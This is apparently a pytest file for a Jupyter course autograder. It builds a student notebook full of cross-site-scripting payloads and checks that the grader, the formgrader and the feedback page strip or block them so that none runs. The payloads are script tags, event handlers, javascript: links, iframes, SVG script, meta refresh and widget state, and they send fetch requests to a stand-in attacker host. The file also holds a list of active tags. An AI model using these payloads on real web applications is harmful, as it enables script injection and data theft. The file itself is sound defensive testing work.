"""A student's notebook is data wherever a person reads it. `scripter` hands in Lab 4 with every kind
of output that can carry code into a browser, and written answers, a raw cell and widget state
that try the same; the instructor opens the graded notebook in the formgrader and the student's
feedback page is opened too, both in Chromium. Nothing of it runs: no request leaves for the
attacker, the page title stays, no script sets its flag, and the gradebook stays as grading left it.

The formgrader is `make formgrader` (JupyterLab in the course root, with the course's server
extension); its Autograde button must grade with the course's sandboxed grader."""

import json
import os
import re
import signal
import socket
import subprocess
import sys
import time
import urllib.request
from html.parser import HTMLParser

import nbformat
import pytest
from nbgrader.api import Gradebook

from autograder.pipeline import examples, gradebooks
from autograder.pipeline.layout import Layout
from course.protocol import SUMMARY_CELL_ID
from browser import browser, screenshot

from helpers import REPO, make_course_root

pytestmark = pytest.mark.slow
LAB = "lab4"
TOKEN = "autograd-labs-formgrader-test"
ATTACKER = "http://attacker.invalid"


def run_js(kind: str) -> str:
    """JavaScript that, if it ever runs, leaves three marks: the page's title, a flag, a request."""
    return f"document.title='PWNED';window.pwned=(window.pwned||[]).concat('{kind}');fetch('{ATTACKER}/{kind}')"


def js_in_html(kind: str) -> str:
    """The ways HTML carries script or calls out, each tagged with `kind`."""
    js = run_js(kind)
    return (f"<b>bold stays</b><script>{js}</script><img src=x onerror=\"{js}\"><svg onload=\"{js}\"></svg>"
            f"<iframe srcdoc=\"<script>{js}</script>\"></iframe><a href=\"javascript:{js}\">link</a>"
            f"<form action='{ATTACKER}/form'><button>go</button></form><img src='{ATTACKER}/{kind}.png'>"
            f"<style>@import url('{ATTACKER}/{kind}.css');</style><link rel=stylesheet href='{ATTACKER}/{kind}.css'>"
            f"<object data='{ATTACKER}/{kind}.swf'></object><embed src='{ATTACKER}/{kind}.swf'>"
            f"<base href='{ATTACKER}/'><meta http-equiv=refresh content='0;url={ATTACKER}/{kind}'>"
            f"<details open ontoggle=\"{js}\"><summary>s</summary></details><body onload=\"{js}\">")


SVG = ('<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" onload="{js}"><script>{js}</script>'
       '<image href="{attacker}/svg.png" width="9" height="9"/><circle cx="20" cy="20" r="15" fill="blue"/>'
       '<foreignObject><iframe src="{attacker}/svg-frame"></iframe></foreignObject></svg>')
WIDGET = {"version_major": 2, "version_minor": 0, "model_id": "0001"}
# One output per type a renderer knows (and one no renderer knows), each carrying script.
BUNDLES = {
    "text/html": js_in_html("html"),
    "application/javascript": run_js("javascript"),
    "text/javascript": run_js("text-javascript"),
    "image/svg+xml": SVG.format(js=run_js("svg"), attacker=ATTACKER),
    "text/markdown": js_in_html("markdown-output") + f"\n\n![x]({ATTACKER}/md.png) [y](javascript:{run_js('md-link')})",
    "text/latex": r"$\href{javascript:" + run_js("latex") + r"}{x}$",
    "application/vnd.jupyter.widget-view+json": WIDGET,
    "application/x-made-up": js_in_html("made-up"),
}
SCRIPT_CELL = ("from IPython.display import publish_display_data\n"
               f"bundles = {json.dumps(BUNDLES)}\n"
               "for kind, value in bundles.items():\n"
               "    publish_display_data({kind: value, 'text/plain': 'a ' + kind + ' output'})\n"
               f"publish_display_data({{'text/html': {json.dumps(js_in_html('isolated'))}}}, "
               "metadata={'text/html': {'isolated': True}})\n")
WRITTEN = js_in_html("written-answer") + f"\n\n![x]({ATTACKER}/written.png) [click](javascript:{run_js('written-link')})"
WIDGET_STATE = {"application/vnd.jupyter.widget-state+json": {"version_major": 2, "version_minor": 0, "state": {
    "0001": {"model_name": "HTMLModel", "model_module": "@jupyter-widgets/controls", "model_module_version": "2.0.0",
             "state": {"value": js_in_html("widget")}}}}}


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def grade(root, *students: str) -> subprocess.CompletedProcess:
    args = [arg for student in students for arg in ("--student", student)]
    return subprocess.run([sys.executable, "-m", "autograder", "--root", str(root), "grade", "--lab", LAB, *args,
                           "--jobs", "2"], capture_output=True, text=True, timeout=600, check=True)


@pytest.fixture(scope="module")
def course(tmp_path_factory):
    """Lab 4 released; grace's honest notebook and scripter's hostile one handed in; only
    scripter graded (grace waits for the formgrader's Autograde button)."""
    root = make_course_root(tmp_path_factory.mktemp("hostile-outputs"))
    subprocess.run([sys.executable, "-m", "autograder", "--root", str(root), "release", "--lab", LAB], check=True,
                   capture_output=True)
    release = nbformat.read(Layout(root).notebook("release", LAB), as_version=4)
    answers = examples.load(LAB)["grace"]["answers"]
    for student in ("grace", "scripter"):
        nb = examples.fill(release, {**answers, **({"q_dead_relu": WRITTEN} if student == "scripter" else {})})
        if student == "scripter":
            first_code = next(i for i, c in enumerate(nb.cells) if c.cell_type == "code")
            nb.cells.insert(first_code + 1, nbformat.v4.new_code_cell(SCRIPT_CELL))
            nb.cells.insert(first_code + 2, nbformat.v4.new_raw_cell(js_in_html("raw"), metadata={
                "format": "text/html", "raw_mimetype": "text/html"}))
            nb.metadata["widgets"] = WIDGET_STATE
        path = Layout(root).notebook("submitted", LAB, student)
        path.parent.mkdir(parents=True)
        nbformat.write(nb, path)
    grade(root, "scripter")
    return root


def gradebook_state(root) -> list:
    """Every score, flag and comment of the gradebook (what a script in the formgrader would change)."""
    with Gradebook(Layout(root).db_url) as gb:
        sub = gb.find_submission(LAB, "scripter")
        return sorted([(g.name, g.auto_score, g.manual_score, g.extra_credit, g.needs_manual_grade)
                       for nb in sub.notebooks for g in nb.grades]
                      + [(c.name, c.auto_comment, c.manual_comment) for nb in sub.notebooks for c in nb.comments],
                      key=repr)


def test_what_comes_back_from_the_sandbox_keeps_only_inert_outputs(course):
    nb = nbformat.read(Layout(course).notebook("autograded", LAB, "scripter"), as_version=4)
    kinds = {kind for c in nb.cells if c.cell_type == "code" for o in c.outputs for kind in o.get("data", {})}
    assert kinds <= {"text/plain", "text/html", "image/svg+xml", "image/png", "image/jpeg"} | {
        k for k in kinds if k.startswith("application/vnd.autograd-labs.")}, kinds
    cell = next(c for c in nb.cells if c.cell_type == "code" and "publish_display_data" in c.source)
    markup = [o.data[kind] for o in cell.outputs for kind in ("text/html", "image/svg+xml") if kind in o.data]
    raw = next(c for c in nb.cells if c.cell_type == "raw")
    for text in [*markup, raw.source]:  # what is left may mention anything, as text; no tag can act
        for tag, attributes in elements(text):
            assert tag not in ACTIVE_TAGS, (tag, text)
            for name, value in attributes:
                assert not name.startswith("on") and name not in ("style", "srcdoc", "action"), (tag, name)
                refers = re.match(r"\s*(javascript|http|//)", value or "", re.I) and not name.startswith("xmlns")
                assert not refers or tag == "a", (tag, name, value)  # a link, shown, never followed by itself
    assert "<b>bold stays</b>" in cell.outputs[0].data["text/html"]  # cleaned, not emptied
    assert all(o.get("metadata") in ({}, None) for o in cell.outputs)  # "isolated" and the like are gone
    dropped = [o.data["text/plain"] for o in cell.outputs if "removed by the grader" in o.data.get("text/plain", "")]
    assert len(dropped) == 6, dropped  # both JavaScript types, Markdown, LaTeX, the widget view, the made-up type
    assert "widgets" not in nb.metadata


ACTIVE_TAGS = {"script", "iframe", "frame", "form", "button", "input", "style", "link", "object", "embed", "base",
               "meta", "body", "details", "foreignobject", "image", "animate", "set"}


def elements(markup: str) -> list[tuple[str, list]]:
    """Every element of an HTML or SVG text: (tag, [(attribute, value), ...])."""
    found = []
    parser = HTMLParser()
    parser.handle_starttag = lambda tag, attributes: found.append((tag, attributes))
    parser.handle_startendtag = parser.handle_starttag
    parser.feed(markup)
    return found


def network_log(page) -> list[str]:
    requests = []
    page.on("request", lambda request: requests.append(request.url))
    page.route(f"{ATTACKER}/**", lambda route: route.abort())
    return requests


def nothing_ran(page, requests: list[str]) -> None:
    assert not [url for url in requests if url.startswith(ATTACKER)], requests
    assert page.title() != "PWNED"
    assert page.evaluate("() => window.pwned === undefined")


@pytest.fixture(scope="module")
def formgrader(course):
    port = free_port()
    log = (course / "formgrader.log").open("w")
    server = subprocess.Popen(["make", "--no-print-directory", "formgrader", f"ROOT={course}", f"PORT={port}",
                               f"TOKEN={TOKEN}"], cwd=REPO, stdout=log, stderr=subprocess.STDOUT,
                              start_new_session=True)
    url = f"http://127.0.0.1:{port}"
    try:
        for _ in range(240):
            try:
                urllib.request.urlopen(f"{url}/api/status?token={TOKEN}", timeout=5)
                break
            except OSError:
                time.sleep(0.5)
        else:
            raise AssertionError((course / "formgrader.log").read_text()[-3000:])
        with browser() as launched:
            page = launched.new_context(viewport={"width": 1400, "height": 900}).new_page()
            page.set_default_timeout(60_000)
            page.goto(f"{url}/lab?token={TOKEN}")  # logs in: the cookie serves the formgrader's pages
            yield url, page
    finally:
        os.killpg(server.pid, signal.SIGTERM)
        server.wait(timeout=60)


def test_the_formgrader_shows_the_hostile_notebook_and_nothing_of_it_runs(course, formgrader):
    url, page = formgrader
    before = gradebook_state(course)
    with Gradebook(Layout(course).db_url) as gb:
        submission = gb.find_submission_notebook(LAB, LAB, "scripter").id
    requests = network_log(page)
    response = page.goto(f"{url}/formgrader/submissions/{submission}/")
    page.wait_for_timeout(3000)  # time for anything that would run late (onload, fetch, refresh)
    nothing_ran(page, requests)
    policy = response.headers.get("content-security-policy", "")
    assert "script-src" in policy and "'unsafe-inline'" not in policy.split("script-src", 1)[1].split(";")[0]
    page.wait_for_function("() => window.formgrader && formgrader.grades && formgrader.grades.loaded")
    page.get_by_text("bold stays").first.scroll_into_view_if_needed()
    screenshot(page, "formgrader-hostile-submission")
    assert page.get_by_text("bold stays").count() >= 2  # the cleaned HTML output and the written answer
    assert gradebook_state(course) == before


def test_the_feedback_page_shows_the_hostile_notebook_and_nothing_of_it_runs(course, formgrader):
    _, page = formgrader
    html = course / "feedback" / "scripter" / LAB / f"{LAB}.html"
    requests = network_log(page)
    page.goto(html.as_uri())
    page.wait_for_timeout(3000)
    nothing_ran(page, requests)
    page.get_by_text("bold stays").first.scroll_into_view_if_needed()
    screenshot(page, "feedback-hostile-submission")
    assert page.get_by_text("bold stays").count() >= 2


def test_the_formgraders_autograde_button_runs_the_sandboxed_grader(course, formgrader):
    url, page = formgrader
    page.goto(f"{url}/formgrader/manage_submissions/{LAB}")
    row = page.locator("tr", has_text="grace")
    row.locator("td.autograde a").click()
    dialog = page.locator(".modal-dialog:visible")
    dialog.get_by_text("Successfully autograded").wait_for(timeout=300_000)
    log = dialog.inner_text()
    screenshot(page, "formgrader-autograde-button")
    assert "sandbox: bubblewrap" in log and "graded 1 of 1 submission(s)" in log, log
    scores = gradebooks.cell_scores(course, LAB)["grace"]
    assert scores == {**scores, **examples.load(LAB)["grace"]["expected"]}
    graded = nbformat.read(Layout(course).notebook("autograded", LAB, "grace"), as_version=4)
    assert graded.cells[0].get("id") == SUMMARY_CELL_ID  # only our grader writes the summary
